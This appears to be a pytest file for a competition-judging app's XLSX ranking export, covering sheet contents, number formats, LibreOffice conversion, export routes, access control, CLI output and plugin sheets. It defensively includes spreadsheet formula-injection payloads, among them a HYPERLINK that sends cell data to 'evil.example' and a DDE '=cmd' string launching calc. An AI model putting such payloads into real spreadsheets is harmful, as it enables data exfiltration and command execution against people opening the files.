"""The ranking workbook made from the database: values per sheet, safety, LibreOffice, CLI."""

import io
import subprocess
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from judging.extensions import db
from judging.io.xlsx.ranking import HEADER_ROW
from judging.models import Job
from judging.plugin_setup import methods
from judging.results.export import ranking_workbook
from judging.results.freeze import freeze_results
from judging.results.special import add_special_award
from judging.scoring.hookspecs import hookimpl
from tests.app.results_world import build_results_world
from tests.workbooks import libreoffice

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+62 812 3456",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=cmd|' /C calc'!A0",
    "  =1+2",
    "＝1+1",
]


def rows(ws):
    """Data rows under the header row, as values."""
    return [list(r) for r in ws.iter_rows(min_row=HEADER_ROW + 1, values_only=True)]


def header(ws):
    return [c.value for c in ws[HEADER_ROW]]


def workbook(data):
    return load_workbook(io.BytesIO(data))


def test_workbook_has_the_expected_values_in_every_sheet(app, make):
    world = build_results_world(make, phase="final")
    add_special_award(world.entries[3], "Apresiasi Inovasi", actor_id=None)
    freeze_results(world.competition)
    db.session.commit()
    wb = workbook(ranking_workbook(world.competition, include_jurors=True))

    assert wb.sheetnames == ["Ringkasan", "Badan Publik", "Per Kriteria", "Per Juri",
                             "Bagaimana jika (metode)"]
    assert rows(wb["Ringkasan"]) == [
        ["Badan Publik", "OPD", "Peringkat Pertama", 1, "BP01", "Dinas Kominfo", 90.5,
         "Informatif"],
        ["Badan Publik", "OPD", "Peringkat Kedua", 2, "BP02", "Dinas Kesehatan", 79.75,
         "Cukup Informatif"],
        ["Badan Publik", "OPD", "Peringkat Ketiga", 3, "BP03", "Dinas Pendidikan", 77.15,
         "Cukup Informatif"],
        ["Badan Publik", "OPD", "Apresiasi Inovasi", 4, "BP04", "Dinas Perhubungan", 32,
         "Tidak Informatif"],
    ]
    ranking = wb["Badan Publik"]
    assert header(ranking)[:6] == ["Peringkat", "Kode", "Nama Peserta",
                                   "Verifikasi website (30%)", "Nilai SAQ (40%)",
                                   "Presentasi (30%)"]
    first, last = rows(ranking)[0], rows(ranking)[3]
    assert first[:13] == [1, "BP01", "Dinas Kominfo", 90, 95, 85, 90.5, "Informatif",
                          "Peringkat Pertama", None, 2, "Ya", None]
    assert last[8:] == [None, "Apresiasi Inovasi", 0, "Tidak", "Tidak lolos tahap"]
    criteria = rows(wb["Per Kriteria"])
    assert criteria[1][:4] == ["Badan Publik", 2, "BP02", "Dinas Kesehatan"]
    assert criteria[1][4:8] == [72.5, 72.5, 72.5, 72.5]
    jurors = wb["Per Juri"]
    assert header(jurors)[5:] == ["Juri Nama 1", "Juri Nama 2"]
    assert rows(jurors)[0][4:] == [2, 90, 80]
    assert wb.properties.title == "Hasil Penilaian Monev KIP 2026"
    assert ranking.freeze_panes == f"A{HEADER_ROW + 1}"
    assert ranking.auto_filter.ref.startswith(f"A{HEADER_ROW}:")


def test_scores_are_numbers_with_two_decimals(app, make):
    world = build_results_world(make)
    ws = workbook(ranking_workbook(world.competition))["Badan Publik"]
    total = ws.cell(row=HEADER_ROW + 1, column=7)
    assert total.data_type == "n" and total.value == 90.5 and total.number_format == "0.00"


def test_user_text_never_becomes_a_formula(app, make):
    names = {0: PAYLOADS[0], 1: PAYLOADS[4], 2: PAYLOADS[3], 3: PAYLOADS[2]}
    world = build_results_world(make, names=names)
    for i, payload in enumerate([PAYLOADS[1]] + PAYLOADS[5:]):
        add_special_award(world.entries[i], payload, actor_id=None)  # whitespace collapsed
    db.session.commit()
    wb = workbook(ranking_workbook(world.competition))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.lstrip(" \t\n")[:1] in "=+-@＝":
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                    texts.append(cell.value)
    seen = set(texts)
    assert {PAYLOADS[0], PAYLOADS[4], "@SUM(A1:A9)", "-1+1", "+62 812 3456"} <= seen
    assert {"=cmd|' /C calc'!A0", "=1+2", "＝1+1"} <= seen


def test_libreoffice_converts_the_workbook(app, make, tmp_path):
    office = libreoffice()
    world = build_results_world(make, names={0: PAYLOADS[0]})
    source = tmp_path / "peringkat.xlsx"
    source.write_bytes(ranking_workbook(world.competition))
    done = subprocess.run(
        [office, "--headless", f"-env:UserInstallation=file://{tmp_path / 'lo'}",
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,"
         "false,2", "--outdir", str(tmp_path), str(source)],
        capture_output=True, text=True, timeout=180,
    )
    assert done.returncode == 0, done.stderr
    ranking = (tmp_path / "peringkat-Badan Publik.csv").read_text(encoding="utf-8")
    assert "Dinas Kesehatan" in ranking and "79.75" in ranking
    assert PAYLOADS[0].replace('"', '""') in ranking  # kept as text, not evaluated


def test_export_route_runs_a_job_and_downloads_the_workbook(app, make, web):
    world = build_results_world(make)
    web.login(world.organizer.email)
    started = web.post(f"/organizer/competitions/{world.competition.id}/export",
                       {"category_id": str(world.category.id)})
    assert started.status_code == 302 and "/organizer/jobs/" in started.location
    job = db.session.scalar(select(Job).where(Job.kind == "export.ranking"))
    assert job.state == "done" and job.result_name == "Peringkat-KIP-2026-BP.xlsx"
    page = web.get(started.location).get_data(as_text=True)
    assert 'id="job-download"' in page
    download = web.get(f"/organizer/jobs/{job.id}/download")
    assert download.status_code == 200
    assert download.mimetype.endswith("spreadsheetml.sheet")
    wb = workbook(download.data)
    assert rows(wb["Badan Publik"])[0][2] == "Dinas Kominfo"


def test_export_route_is_for_this_competitions_organizers(app, make, web):
    world = build_results_world(make)
    stranger = make.organizer(make.competition(), email="lain@juara.test")
    make.commit()
    web.login(stranger.email)
    assert web.post(f"/organizer/competitions/{world.competition.id}/export").status_code == 403
    web.logout()
    web.login(world.jurors[0].email)
    assert web.post(f"/organizer/competitions/{world.competition.id}/export").status_code == 403


def test_cli_export_by_code_and_by_id(app, make, runner, tmp_path):
    world = build_results_world(make)
    target = tmp_path / "out.xlsx"
    result = runner.invoke(args=["export-ranking", "KIP-2026", "-o", str(target)])
    assert result.exit_code == 0, result.output
    assert rows(workbook(target.read_bytes())["Badan Publik"])[1][6] == 79.75
    result = runner.invoke(args=["export-ranking", str(world.competition.id), "-o",
                                 str(tmp_path / "b.xlsx")])
    assert result.exit_code == 0 and (tmp_path / "b.xlsx").exists()
    missing = runner.invoke(args=["export-ranking", "TIDAK-ADA", "-o", str(tmp_path / "c.xlsx")])
    assert missing.exit_code != 0 and "tidak ditemukan" in missing.output


def test_cli_ranking_json_has_the_breakdowns(app, make, runner):
    import json

    world = build_results_world(make)
    result = runner.invoke(args=["ranking", str(world.category.id), "--json"])
    assert result.exit_code == 0, result.output
    data = json.loads(result.output)
    first = data["lines"][0]
    assert first["entrant_name"] == "Dinas Kominfo" and first["total"] == "90.50"
    assert first["components"] == {"website": "90.00", "saq": "95.00", "presentation": "85.00"}
    assert first["breakdown"]["juror_scores"] == {"Juri 1": 90.0, "Juri 2": 80.0}
    assert first["breakdown"]["weights"] == {"website": 30.0, "saq": 40.0, "presentation": 30.0}
    assert data["lines"][3]["flags"] == [{"key": "not_advanced", "label": "Tidak lolos tahap"}]
    assert Decimal(data["winners"][2]["total"]) == Decimal("77.15")
    named = json.loads(runner.invoke(args=["ranking", str(world.category.id), "--json",
                                           "--names"]).output)
    assert set(named["lines"][0]["breakdown"]["juror_scores"]) == {"Juri Nama 1", "Juri Nama 2"}


class SheetPlugin:
    """A throw-away plugin adding one sheet from the results it is given."""

    def __init__(self):
        self.calls = []

    @hookimpl
    def judging_export_sheets(self, competition, categories):
        self.calls.append((competition, categories))
        rows = [[c.name, r.rank, r.name, float(r.total)]
                for c in categories for r in c.results]
        return [("Sheet Plugin", ["Kategori", "Peringkat", "Nama", "Nilai"], rows)]


@pytest.fixture
def sheet_plugin(app):
    plugin = SheetPlugin()
    methods().pm.register(plugin, name="test-sheet-plugin")
    yield plugin
    methods().pm.unregister(name="test-sheet-plugin")


def test_plugins_add_sheets_through_the_export_hook(app, make, sheet_plugin):
    world = build_results_world(make, names={1: "=1+1"})
    wb = workbook(ranking_workbook(world.competition, world.category))
    competition, categories = sheet_plugin.calls[0]
    assert competition.name == "Monev KIP" and categories[0].method == (
        "information_disclosure")
    ws = wb["Sheet Plugin"]
    assert rows(ws)[1] == ["Badan Publik", 2, "=1+1", 79.75]
    assert ws.cell(row=HEADER_ROW + 2, column=3).quotePrefix
